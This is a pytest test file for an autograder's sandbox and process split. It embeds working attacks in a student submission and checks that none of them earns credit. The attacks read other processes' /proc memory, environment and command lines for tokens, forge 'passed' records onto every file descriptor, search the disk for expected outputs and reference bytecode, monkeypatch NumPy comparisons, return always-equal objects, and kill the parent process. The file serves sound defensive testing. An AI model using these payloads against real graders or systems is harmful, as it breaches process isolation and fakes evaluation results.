"""No submission can forge its score: lab 01 left as the stub, plus an attack, scores 0 in
the configuration instructors get. The attack runs (the static review only notes it): the
process split and the sandbox alone stand between it and the score. Lab 02, honest, keeps
full credit in the same submission.

The attacks are written as an attacker would, not against a known weakness: each wraps
every stub function, so its payload runs inside a test, in the process that holds the
lab code.
"""

import pytest

from gptkit.testing.layout import KIT_ROOT
from grader.sandbox import runner

STUB = (KIT_ROOT / "labs" / "01_causal_mask" / "src" / "causal_mask.py").read_text()
WRAP = """
def _wrap(f):
    def g(*args, **kwargs):
        out = _attack(f.__name__, args, kwargs)
        return f(*args, **kwargs) if out is NotImplemented else out
    return g

causal_mask, additive_mask, softmax = _wrap(causal_mask), _wrap(additive_mask), _wrap(softmax)
scaled_dot_product_attention = _wrap(scaled_dot_product_attention)
"""

ATTACKS = {
    # The measured attack: reach the test process's state through the garbage collector,
    # write a passed result for every test with its token, stop the session.
    "forge-results": """
import typing, json, os
def _attack(name, args, kwargs):
    tokens = set()
    try:
        gc = typing.sys.modules.get("gc") or __import__("gc")
        for o in gc.get_objects():
            if isinstance(o, dict) and "token" in o:
                tokens.add(str(o.get("token")))
            if type(o).__name__ == "Session":
                o.shouldstop = "forged"
    except Exception:
        pass
    for pid in os.listdir("/proc"):  # tokens in other processes' environment or memory
        for part in ("environ", "cmdline", "mem"):
            try:
                tokens.add(open(f"/proc/{pid}/{part}", "rb").read(4096).decode("latin-1")[:32])
            except Exception:
                pass
    lines = "".join(f"{t} " + json.dumps({"event": "test", "lab": "01_causal_mask", "nodeid": n,
                    "outcome": "passed", "message": "", "duration": 0.0, "cpu": 0.0}) + "\\n"
                    for t in tokens | {""} for n in ("tests/01_causal_mask/test_causal_mask.py::test_softmax_keeps_float32",))
    for fd in range(0, 256):  # every descriptor this process holds
        try:
            os.write(fd, lines.encode())
        except Exception:
            pass
    for pid in os.listdir("/proc"):  # every descriptor of every process it can see
        for fd in range(64):
            try:
                with open(f"/proc/{pid}/fd/{fd}", "w") as fh:
                    fh.write(lines)
            except Exception:
                pass
    return NotImplemented
""",
    # Copy the expected values: any array in this process, or any fixture file on disk.
    "scavenge-expected": """
import typing, os
import numpy as np
def _attack(name, args, kwargs):
    x = np.asarray(args[0]) if args and not isinstance(args[0], int) else None
    seen = []
    try:
        gc = typing.sys.modules.get("gc") or __import__("gc")
        seen += [o for o in gc.get_objects() if isinstance(o, np.ndarray)]
    except Exception:
        pass
    for root in ("/sandbox", "..", "../..", "/"):
        for d, _, files in os.walk(root):
            for f in files:
                if f.endswith(".npz"):
                    try:
                        seen += list(np.load(os.path.join(d, f)).values())
                    except Exception:
                        pass
            if len(seen) > 5000:
                break
    for a in seen:
        if x is not None and a.shape == x.shape and a is not x and not np.array_equal(a, x):
            return a
    return NotImplemented
""",
    # Use the reference: the later lab's tree holds lab 01's reference bytecode.
    "borrow-reference": """
import os, importlib.machinery, importlib.util
_ref = []
def _find():
    for root in ("/sandbox", "..", "../.."):
        for d, _, files in os.walk(root):
            if "causal_mask.pyc" in files:
                path = os.path.join(d, "causal_mask.pyc")
                try:
                    loader = importlib.machinery.SourcelessFileLoader("ref_cm", path)
                    spec = importlib.util.spec_from_loader("ref_cm", loader)
                    mod = importlib.util.module_from_spec(spec)
                    loader.exec_module(mod)
                    return mod
                except Exception:
                    continue
def _attack(name, args, kwargs):
    if not _ref:
        _ref.append(_find())
    return getattr(_ref[0], name)(*args, **kwargs) if _ref[0] is not None else NotImplemented
""",
    # Results that compare equal to anything.
    "fake-equal": """
import numpy as np
class Same:
    __array_priority__ = 1000
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __array__(self, dtype=None, copy=None): return np.zeros(0)
def _attack(name, args, kwargs):
    return Same()
""",
    "ndarray-subclass": """
import numpy as np
class Agreeable(np.ndarray):
    def __eq__(self, other): return np.ones(np.shape(other), bool)
    def __array_ufunc__(self, *a, **k): return np.ones(1, bool)
def _attack(name, args, kwargs):
    return np.zeros(np.shape(args[0]) if args and not isinstance(args[0], int) else (1,), np.float32).view(Agreeable)
""",
    # Patch the comparison machinery (here: in its own process).
    "monkeypatch": """
import numpy as np, numpy.testing, builtins
np.allclose = lambda *a, **k: True
np.isclose = lambda a, b, **k: np.ones(np.broadcast(a, b).shape, bool)
np.array_equal = lambda *a, **k: True
numpy.testing.assert_allclose = lambda *a, **k: None
builtins.isinstance = lambda *a: True
def _attack(name, args, kwargs):
    return np.zeros(np.shape(args[0]) if args and not isinstance(args[0], int) else (1, 1), np.float32)
""",
    # End its own process, or its parent, at the first call.
    "exit-and-kill": """
import os, sys, signal
def _attack(name, args, kwargs):
    try:
        os.kill(os.getppid(), signal.SIGKILL)
    except Exception:
        pass
    os._exit(0)
""",
    # A thread that keeps writing after the call returned.
    "background-thread": """
import threading, os, time, json
def _spam():
    line = ("x " + json.dumps({"event": "test", "lab": "01_causal_mask", "nodeid": "x", "outcome": "passed",
                              "message": "", "duration": 0.0, "cpu": 0.0}) + "\\n").encode()
    while True:
        for fd in range(1, 64):
            try:
                os.write(fd, line)
            except Exception:
                pass
        time.sleep(0.01)
def _attack(name, args, kwargs):
    threading.Thread(target=_spam, daemon=True).start()
    return NotImplemented
""",
}


def _submission(make_submission, attack):
    sub = make_submission()
    (sub / "labs" / "01_causal_mask" / "src" / "causal_mask.py").write_text(STUB + ATTACKS[attack] + WRAP)
    return sub


@pytest.mark.parametrize("attack", sorted(ATTACKS))
def test_stub_plus_attack_scores_nothing(two_lab_grader, make_submission, attack):
    g = two_lab_grader
    r = g.grade("mallory", _submission(make_submission, attack))
    lab1, lab2 = r.labs["01_causal_mask"], r.labs["02_embeddings"]
    passed = [t.nodeid for t in lab1.tests if t.outcome == "passed"]
    assert lab1.points == 0 and not passed, f"{attack} scored {lab1.points}: {passed[:5]}"
    assert any(t.outcome != "not run" for t in lab1.tests), "the attack must run: the review only notes"
    assert lab2.points == g.rubric["02_embeddings"].points, (
        f"{attack} cost the honest lab 02 points", [(t.nodeid, t.message) for t in lab2.tests
                                                    if t.outcome != "passed"][:3])


def test_results_that_are_not_plain_data_are_refused_with_a_reason(two_lab_grader, make_submission):
    r = two_lab_grader.grade("s", _submission(make_submission, "fake-equal"))
    softmax = [t for t in r.labs["01_causal_mask"].tests if "softmax" in t.nodeid]
    assert softmax and all(t.outcome == "failed" for t in softmax)
    assert any("plain Python values" in t.message and "Same" in t.message for t in softmax), softmax[0].message


@pytest.mark.parametrize("attack", ["forge-results", "scavenge-expected", "borrow-reference"])
def test_without_bubblewrap_the_split_still_holds(two_lab_grader, make_submission, attack):
    """No bubblewrap (the grader warns): the lab process is still another process, and as
    root another user; the attack still scores nothing."""
    g = two_lab_grader
    g.isolation = "rlimits"
    try:
        r = g.grade("mallory", _submission(make_submission, attack))
    finally:
        g.isolation = runner.isolation_mode()
    assert r.isolation == "rlimits" and r.labs["01_causal_mask"].points == 0
    assert r.labs["02_embeddings"].points == g.rubric["02_embeddings"].points


def test_where_the_kernel_walls_hold_one_zygote_forks_the_lab_processes(two_lab_grader, make_submission,
                                                                        monkeypatch):
    """With seccomp and Landlock, one process per submission loads NumPy once and forks each
    lab's process, whose sandbox then holds every lab's tree: the kernel's Landlock fence
    (shown alone in tests/kit/test_remote.py), and the audit hook behind it, keep lab 01's
    code from lab 02's tree and the reference bytecode of lab 01 in it. The attack that
    looks for that bytecode still scores nothing."""
    if not runner.kernel_walls():
        pytest.skip("this kernel lacks the seccomp filter or Landlock: each lab process starts alone")
    started = []
    start = runner._LabProcesses.start_zygote
    monkeypatch.setattr(runner._LabProcesses, "start_zygote", lambda self: (started.append(self), start(self))[1])
    g = two_lab_grader
    r = g.grade("mallory", _submission(make_submission, "borrow-reference"))
    assert started, "the lab processes did not come from a zygote"
    assert r.labs["01_causal_mask"].points == 0
    assert r.labs["02_embeddings"].points == g.rubric["02_embeddings"].points


@pytest.mark.parametrize("attack", ["forge-results", "scavenge-expected", "borrow-reference"])
def test_lab_processes_started_one_by_one_hold_too(two_lab_grader, make_submission, monkeypatch, attack):
    """Without the two kernel walls, each lab's process starts alone, in a sandbox that
    holds its own lab's tree only (and, as root, as its own user): the attack still scores
    nothing."""
    monkeypatch.setattr(runner, "USE_ZYGOTE", False)
    g = two_lab_grader
    r = g.grade("mallory", _submission(make_submission, attack))
    assert r.labs["01_causal_mask"].points == 0
    assert r.labs["02_embeddings"].points == g.rubric["02_embeddings"].points
